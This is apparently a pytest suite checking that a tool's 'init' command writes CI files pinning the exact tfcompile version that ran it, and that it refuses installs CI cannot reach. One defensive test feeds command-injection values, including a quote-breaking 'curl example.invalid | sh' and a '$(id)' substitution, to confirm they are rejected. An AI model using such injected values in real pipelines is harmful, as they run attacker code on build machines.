"""`tfcompile init` writes CI that installs the same tfcompile that ran it.

Each test runs the `tfcompile` command in a subprocess where the user would, under an
installation of one kind: a distribution record (`tfcompile-*.dist-info` with or without
pip's `direct_url.json`, PEP 610) first on `PYTHONPATH` is what `importlib.metadata` finds, as
it would for a real install of that kind. Then the generated GitHub and GitLab CI must install
exactly the requirement that reproduces it, or `init` refuses and writes nothing.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

from tests.conftest import REPOSITORY

pytestmark = pytest.mark.slow

TFCOMPILE = str(Path(sys.executable).parent / "tfcompile")
COMMIT = "0123456789abcdef0123456789abcdef01234567"
SHA256 = "4f" * 32


def init(tmp_path: Path, direct_url: dict[str, Any] | None,
         *arguments: str) -> subprocess.CompletedProcess[str]:
    """Run `tfcompile init` under a distribution record with `direct_url` (None: no record)."""
    site = tmp_path / "site"
    record = site / "tfcompile-7.7.7.dist-info"
    record.mkdir(parents=True)
    (record / "METADATA").write_text("Metadata-Version: 2.1\nName: tfcompile\nVersion: 7.7.7\n")
    if direct_url is not None:
        (record / "direct_url.json").write_text(json.dumps(direct_url))
    return run_init(tmp_path, {**os.environ, "PYTHONPATH": str(site)}, *arguments)


def run_init(tmp_path: Path, environment: dict[str, str],
             *arguments: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([TFCOMPILE, "init", str(tmp_path / "repository"), *arguments],
                          env=environment, capture_output=True, text=True, check=False)


def installed_requirements(repository: Path) -> tuple[str, str]:
    """The requirement the GitHub workflow and the GitLab pipeline install."""
    github = YAML(typ="safe").load((repository / ".github/workflows/tfcompile.yaml").read_text())
    [github_line] = [line for step in github["jobs"]["check"]["steps"]
                     for line in step.get("run", "").splitlines() if "pip install" in line]
    gitlab = YAML(typ="safe").load((repository / ".gitlab-ci.yml").read_text())
    [gitlab_line] = [line for line in gitlab["tfcompile"]["before_script"]
                     if "pip install" in line]
    return github_line.strip(), gitlab_line


def assert_installs(tmp_path: Path, result: subprocess.CompletedProcess[str],
                    requirement: str) -> None:
    assert result.returncode == 0, result.stderr
    expected = f'pip install "{requirement}"'
    assert installed_requirements(tmp_path / "repository") == (expected, expected)


def assert_refused(tmp_path: Path, result: subprocess.CompletedProcess[str], why: str) -> None:
    assert result.returncode == 2
    assert why in result.stderr
    assert "pass --tfcompile-requirement" in result.stderr
    assert "nothing was written" in result.stderr
    assert "Traceback" not in result.stderr
    assert not (tmp_path / "repository").exists()


def git(directory: Path, *arguments: str) -> str:
    environment = {**os.environ, "GIT_AUTHOR_NAME": "test", "GIT_AUTHOR_EMAIL": "t@example.com",
                   "GIT_COMMITTER_NAME": "test", "GIT_COMMITTER_EMAIL": "t@example.com"}
    return subprocess.run(["git", "-C", str(directory), *arguments], env=environment,
                          capture_output=True, text=True, check=True).stdout.strip()


def checkout(tmp_path: Path, origin: str | None) -> Path:
    """A git checkout of a project with one commit, and `origin` when given."""
    project = tmp_path / "tfcompile-source"
    project.mkdir()
    (project / "pyproject.toml").write_text("[project]\nname = 'tfcompile'\n")
    git(project, "init", "-q")
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", "start")
    if origin is not None:
        git(project, "remote", "add", "origin", origin)
    return project


def test_installed_from_a_package_index_installs_that_version(tmp_path: Path) -> None:
    assert_installs(tmp_path, init(tmp_path, None), "tfcompile==7.7.7")


def test_installed_from_git_installs_the_commit_pip_resolved(tmp_path: Path) -> None:
    record = {"url": "https://example.invalid/team/tfcompile.git",
              "vcs_info": {"vcs": "git", "commit_id": COMMIT, "requested_revision": "main"}}
    assert_installs(tmp_path, init(tmp_path, record),
                    f"git+https://example.invalid/team/tfcompile.git@{COMMIT}")


def test_a_token_in_a_recorded_url_never_reaches_the_ci_files(tmp_path: Path) -> None:
    record = {"url": "https://ci-user:hunter2@example.invalid/team/tfcompile.git",
              "vcs_info": {"vcs": "git", "commit_id": COMMIT}, "subdirectory": "python"}
    result = init(tmp_path, record)
    assert_installs(tmp_path, result,
                    f"git+https://example.invalid/team/tfcompile.git@{COMMIT}"
                    "#subdirectory=python")
    written = "".join(p.read_text() for p in (tmp_path / "repository").rglob("*") if p.is_file())
    assert "hunter2" not in written + result.stderr


def test_installed_from_an_archive_url_installs_that_archive_with_its_hash(
    tmp_path: Path,
) -> None:
    record = {"url": "https://example.invalid/tfcompile-7.7.7.tar.gz",
              "archive_info": {"hashes": {"sha256": SHA256}}}
    assert_installs(tmp_path, init(tmp_path, record),
                    f"https://example.invalid/tfcompile-7.7.7.tar.gz#sha256={SHA256}")


def test_installed_from_a_local_archive_is_refused(tmp_path: Path) -> None:
    record = {"url": "file:///srv/wheels/tfcompile-7.7.7-py3-none-any.whl",
              "archive_info": {}}
    assert_refused(tmp_path, init(tmp_path, record), "on this machine, which CI cannot reach")


def test_an_editable_install_from_a_git_checkout_installs_its_origin_at_head(
    tmp_path: Path,
) -> None:
    project = checkout(tmp_path, "git@example.invalid:team/tfcompile.git")
    record = {"url": project.as_uri(), "dir_info": {"editable": True}}
    result = init(tmp_path, record)
    head = git(project, "rev-parse", "HEAD")
    requirement = f"git+ssh://git@example.invalid/team/tfcompile.git@{head}"
    assert_installs(tmp_path, result, requirement)
    assert (f"tfcompile: tfcompile runs from the git checkout {project}: the CI will install its "
            f"HEAD commit from its origin ({requirement}); push that commit\n") in result.stderr


def test_a_checkout_with_uncommitted_changes_is_named_in_the_note(tmp_path: Path) -> None:
    project = checkout(tmp_path, "https://example.invalid/team/tfcompile.git")
    (project / "pyproject.toml").write_text("[project]\nname = 'changed'\n")
    result = init(tmp_path, {"url": project.as_uri(), "dir_info": {"editable": True}})
    assert_installs(tmp_path, result, "git+https://example.invalid/team/tfcompile.git@"
                    + git(project, "rev-parse", "HEAD"))
    assert "uncommitted changes in the checkout are not part of it" in result.stderr


@pytest.mark.parametrize(("origin", "why"), [
    (None, "its git checkout has no `origin` remote"),
    ("/srv/git/tfcompile.git", "the `origin` of its git checkout is on this machine too"),
    ("file:///srv/git/tfcompile.git", "the `origin` of its git checkout is on this machine too"),
])
def test_a_checkout_whose_origin_ci_cannot_reach_is_refused(
    tmp_path: Path, origin: str | None, why: str
) -> None:
    project = checkout(tmp_path, origin)
    result = init(tmp_path, {"url": project.as_uri(), "dir_info": {"editable": True}})
    assert_refused(tmp_path, result, why)


def test_a_local_directory_that_is_no_checkout_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "unpacked"
    source.mkdir()
    result = init(tmp_path, {"url": source.as_uri(), "dir_info": {}})
    assert_refused(tmp_path, result,
                   f"installed from the directory {source}, which CI cannot reach, and it is "
                   "not a git checkout")


def test_an_explicit_requirement_wins_over_any_installation(tmp_path: Path) -> None:
    source = tmp_path / "unpacked"
    source.mkdir()
    result = init(tmp_path, {"url": source.as_uri(), "dir_info": {}},
                  "--tfcompile-requirement", "tfcompile @ git+https://example.invalid/t.git@v1")
    assert_installs(tmp_path, result, "tfcompile @ git+https://example.invalid/t.git@v1")


@pytest.mark.parametrize("requirement", [
    'tfcompile"; curl example.invalid | sh; "', "tfcompile==$(id)", "--index-url=x",
    "tfcompile\nfoo", "tfcompile #comment", "",
])
def test_a_requirement_that_would_break_the_ci_files_is_refused(
    tmp_path: Path, requirement: str
) -> None:
    result = init(tmp_path, None, f"--tfcompile-requirement={requirement}")
    assert result.returncode == 2
    assert "--tfcompile-requirement: not usable as a pip requirement in CI" in result.stderr
    assert not (tmp_path / "repository").exists()


def test_this_installation_gives_its_origin_at_head_or_asks(tmp_path: Path) -> None:
    """The test suite's own (editable) install: reproducible only through a network origin."""
    result = run_init(tmp_path, dict(os.environ))
    try:
        origin = git(REPOSITORY, "remote", "get-url", "origin")
    except subprocess.CalledProcessError:
        origin = ""
    reachable = ("://" in origin and not origin.startswith("file:")) or re.match(
        r"^[\w.-]+@[\w.-]+:", origin) is not None
    if reachable:
        head = git(REPOSITORY, "rev-parse", "HEAD")
        assert result.returncode == 0, result.stderr
        requirement = installed_requirements(tmp_path / "repository")[0]
        assert requirement.startswith('pip install "git+')
        assert requirement.endswith(f'@{head}"')
    else:
        assert_refused(tmp_path, result, "which CI cannot reach, and ")
